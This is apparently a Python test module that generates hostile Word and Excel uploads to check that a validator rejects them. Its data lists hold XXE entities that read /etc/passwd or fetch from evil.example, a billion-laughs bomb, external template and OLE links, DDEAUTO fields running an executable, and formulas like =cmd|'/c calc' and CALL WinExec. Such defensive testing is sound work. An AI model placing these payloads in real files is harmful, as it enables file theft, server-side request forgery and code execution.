"""Word files and workbooks that are hostile in their XML: entities, links that fetch, fields and formulas that run."""

from collections.abc import Iterator
from functools import partial

from tests.documents.test_uploads import OFFICE, part_of, rebuilt
from tests.uploads.sent import BASES, MAIN, Sent, changed, office

PARTS = {
    "docx": ("word/document.xml", "word/styles.xml", "docProps/core.xml", "_rels/.rels", "[Content_Types].xml"),
    "xlsx": ("xl/workbook.xml", "xl/worksheets/sheet1.xml", "docProps/core.xml", "_rels/.rels", "[Content_Types].xml"),
}
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
TRICKS = {
    "an entity": b'<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>',
    "a file on the server": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "an address": b'<!DOCTYPE a [<!ENTITY x SYSTEM "http://evil.example/x">]><a>&x;</a>',
    "a definition elsewhere": b'<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>',
    "a public definition": b'<!DOCTYPE a PUBLIC "-//x//x" "http://evil.example/a.dtd"><a/>',
    "a parameter entity": b'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/a.dtd">%x;]><a/>',
    "a billion laughs": f'<!DOCTYPE a [<!ENTITY l0 "ha">{LAUGHS}]><a>&l9;</a>'.encode(),
    "one long entity often": b'<!DOCTYPE a [<!ENTITY x "' + b"y" * 50_000 + b'">]><a>' + b"&x;" * 50_000 + b"</a>",
    "a definition in UTF-16": '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a><a/>'.encode("utf-16"),
    "UTF-16 without a mark": '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a><a/>'.encode("utf-16-be"),
    "UTF-7": b'<?xml version="1.0" encoding="utf-7"?>+ADw-!DOCTYPE a+AD4-<a/>',
    "UTF-32": '<?xml version="1.0" encoding="utf-32"?><!DOCTYPE a><a/>'.encode("utf-32"),
    "EBCDIC": '<?xml version="1.0" encoding="cp037"?><!DOCTYPE a><a/>'.encode("cp037"),
    "a hundred thousand levels": b"<a>" * 100_000 + b"</a>" * 100_000,
    "no end": b"<a>",
    "no XML": b"\x00\x01\x02\xff",
    "nothing": b"",
    "an attribute twice": b'<a b="1" b="2"/>',
    "a letter that is none": b"<a>&#0;</a>",
}
OUTSIDE = {  # what a relationship of a kind may not lead to
    "attachedTemplate": "https://evil.example/a.dotm",
    "image": "https://evil.example/a.png",
    "oleObject": "https://evil.example/a",
    "frame": "https://evil.example/a.html",
    "subDocument": "https://evil.example/a.docx",
    "aFChunk": "https://evil.example/a.mht",
    "video": "https://evil.example/a.mp4",
    "audio": "https://evil.example/a.mp3",
    "externalLink": "file://evil.example/a.xlsx",
    "externalLinkPath": "https://evil.example/a.xlsx",
    "mailMergeSource": "file:///c:/a.mdb",
    "stylesheet": "http://evil.example/a.css",
}
ADDRESSES = (
    "file:///etc/passwd", "file://evil.example/share", "javascript:alert(1)", " JavaScript:alert(1)",
    "java&#9;script:x", "vbscript:x", "data:text/html,x", "ms-msdt:/id", "search-ms:query=x", "ms-word:ofe|u|http://evil.example",
    "\\\\evil.example\\x", "//evil.example/x", "ftp://evil.example", "ldap://evil.example", "C:\\x.exe", "",
)  # fmt: skip
INSIDE = ("connections", "queryTable", "xlMacrosheet", "dialogsheet", "ctrlProp", "vbaProject", "control", "package")
FIELDS = (
    "DDE excel a b", "DDEAUTO c:\\\\x.exe a", "ddeauto x", "INCLUDETEXT x", "INCLUDEPICTURE x", "LINK Excel.Sheet x",
    "IMPORT x", "DATABASE \\d x", "MACROBUTTON AutoOpen x", "RD x", "HTMLCONTROL x", 'HYPERLINK "file:///c:/x"',
    'HYPERLINK "javascript:alert(1)"', "HYPERLINK \\\\\\\\evil.example\\\\x", 'HYPERLINK \\l "a" "vbscript:x"',
)  # fmt: skip
FORMULAS = (
    '=WEBSERVICE("https://evil.example")', "=_xlfn.WEBSERVICE(A1)", "=cmd|'/c calc'!A1", "=MSEXCEL|'x'!y",
    "=[1]Ark1!A1", "='\\\\evil.example\\[x.xlsx]A'!A1", '=CALL("Kernel32","WinExec","JCJ","calc",0)',
    '=REGISTER("urlmon","x","JJCCJJ")', '=EXEC("calc")', '=RTD("x",,"y")', '=HYPERLINK("http://evil.example","x")',
    '=HYPERLINK("file:///c:/x.exe","x")', '=HYPERLINK("javascript:x","x")', "=IMAGE(A1)", "=_xlfn.IMAGE(A1)",
    '=SQL.REQUEST("x")', '=IMPORTXML("https://evil.example","x")', '=webservice("x")', '=HYPERLINK("ftp:"&A1)',
)  # fmt: skip
WORD_2 = "http://purl.oclc.org/ooxml/wordprocessingml/main"


def _relation(kind: str, name: str, target: str, mode: str, *, wrapped: bool = False) -> bytes:
    one = f'<Relationship Id="rId99" Type="{OFFICE}/{name}" Target="{target}"{mode}/>'
    one = f'<x:Choice xmlns:x="urn:x">{one}</x:Choice>' if wrapped else one
    folder, _, main = MAIN[kind].rpartition("/")
    return changed(kind, f"{folder}/_rels/{main}.rels", b"</Relationships>", f"{one}</Relationships>".encode())


def _relations(kind: str) -> Iterator[Sent]:
    far = ' TargetMode="External"'
    for name, target in OUTSIDE.items():
        yield office(kind, f"{name} elsewhere", partial(_relation, kind, name, target, far))
    for target in ADDRESSES:
        yield office(kind, f"a link to {target!r}", partial(_relation, kind, "hyperlink", target, far))
    for name in INSIDE:
        yield office(kind, f"{name} inside", partial(_relation, kind, name, "x.xml", ""))
    yield office(kind, "in small letters", partial(_relation, kind, "image", "http://x", ' TargetMode="external"'))
    yield office(kind, "wrapped", partial(_relation, kind, "image", "http://evil.example", far, wrapped=True))
    yield office(kind, "out of the file", partial(_relation, kind, "image", "../../../a.png", ""))
    yield office(kind, "an address inside", partial(_relation, kind, "image", "http://evil.example/a.png", ""))


def in_text(xml: str, space: str = "") -> bytes:
    """The document with something in its first paragraph, perhaps in the strict dialect of the format."""
    body = part_of(BASES["docx"], MAIN["docx"]).replace(b"<w:p>", f"<w:p>{xml}".encode(), 1)
    if space:
        old = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
        body = body.replace(old, space.encode())
    return rebuilt(BASES["docx"], {MAIN["docx"]: body})


def _marks(*codes: str) -> str:
    """A field for each code, whose letters stand in a run each."""
    begin, end = ('<w:r><w:fldChar w:fldCharType="' + mark + '"/></w:r>' for mark in ("begin", "end"))
    texts = ("".join(f"<w:r><w:instrText>{letter}</w:instrText></w:r>" for letter in code) for code in codes)
    return "".join(begin + text + end for text in texts)


def _in_part(part: str, xml: str) -> bytes:
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return rebuilt(BASES["docx"], {part: f'<w:hdr xmlns:w="{space}"><w:p>{xml}</w:p></w:hdr>'.encode()})


def _fields() -> Iterator[Sent]:
    for code in FIELDS:
        said = code.replace('"', "&quot;")
        whole = f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{code}</w:instrText></w:r>'
        yield office("docx", f"the field {code}", partial(in_text, whole))
        yield office("docx", f"letter by letter {code}", partial(in_text, _marks("PAGE", code)))
        yield office("docx", f"simple {code}", partial(in_text, f'<w:fldSimple w:instr="{said}"/>'))
        yield office("docx", f"strict {code}", partial(in_text, whole, WORD_2))
    for part in ("word/header9.xml", "word/footnotes9.xml", "word/glossary/x.xml"):
        yield office("docx", f"a field in {part}", partial(_in_part, part, _marks("DDEAUTO x")))
    for name in ("object", "control", "altChunk", "subDoc", "mailMerge", "OLEObject"):
        yield office("docx", f"the element {name}", partial(in_text, f"<w:{name}/>"))
        yield office("docx", f"strict {name}", partial(in_text, f"<w:{name}/>", WORD_2))


def in_sheet(xml: str) -> bytes:
    """The workbook with something at the end of its sheet."""
    return changed("xlsx", "xl/worksheets/sheet1.xml", b"</worksheet>", f"{xml}</worksheet>".encode())


def _formulas() -> Iterator[Sent]:
    for formula in FORMULAS:
        said = formula[1:].replace("&", "&amp;").replace('"', "&quot;")
        cell = f'<row r="9"><c r="A9"><f>{said}</f></c></row></sheetData>'.encode()
        make = partial(changed, "xlsx", "xl/worksheets/sheet1.xml", b"</sheetData>", cell)
        yield office("xlsx", f"the formula {formula}", make)
        name = f'<definedNames><definedName name="x">{said}</definedName></definedNames></workbook>'.encode()
        yield office("xlsx", f"a name for {formula}", partial(changed, "xlsx", MAIN["xlsx"], b"</workbook>", name))
    rule = '<conditionalFormatting><cfRule><formula>WEBSERVICE("x")</formula></cfRule></conditionalFormatting>'
    check = "<dataValidations><dataValidation><formula1>x|y!z</formula1></dataValidation></dataValidations>"
    yield office("xlsx", "a rule of colours that fetches", partial(in_sheet, rule))
    yield office("xlsx", "a rule of input that runs", partial(in_sheet, check))
    yield office("xlsx", "a link to a program", partial(in_sheet, "<ddeLink/>"))


def _tricks(kind: str) -> Iterator[Sent]:
    for part in PARTS[kind]:
        for what, content in TRICKS.items():
            yield office(kind, f"{what} in {part}", partial(rebuilt, BASES[kind], {part: content}))


def trees() -> list[Sent]:
    """All of them."""
    both = [one for kind in BASES for make in (_tricks, _relations) for one in make(kind)]
    return [*both, *_fields(), *_formulas()]
